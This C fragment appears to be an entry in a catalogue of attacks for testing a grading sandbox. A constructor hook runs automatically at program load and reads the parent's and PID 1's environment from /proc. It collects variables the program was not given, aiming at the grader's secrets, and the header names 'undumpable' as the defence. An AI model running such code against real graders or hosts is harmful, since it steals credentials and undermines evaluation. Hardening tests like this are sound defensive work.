// ---
// tries: Reads the environment of its parent and of the first process, for what it was not given itself.
// place: before
// gain: whatever the grader keeps in its environment
// helps: undumpable
// ---
static void attack_environment(int pid) {
  static char text[100000], own[100000];
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  long count = attack_bytes(path, text, sizeof text - 1);
  long mine = attack_bytes("/proc/self/environ", own, sizeof own - 1);
  if (count <= 0) return;
  text[count] = 0;
  for (char *each = text; each < text + count; each += strlen(each) + 1) {
    if (*each == 0 || strncmp(each, "_=", 2) == 0 || strncmp(each, "OLDPWD=", 7) == 0 || strncmp(each, "PWD=", 4) == 0) continue;
    if (strncmp(each, "SHLVL=", 6) == 0) continue;
    if (mine <= 0 || memmem(own, (size_t)mine, each, strlen(each)) == NULL) attack_read_text(path, each, strlen(each));
  }
}

__attribute__((constructor)) static void attack(void) {
  attack_environment(getppid());
  attack_environment(1);
}
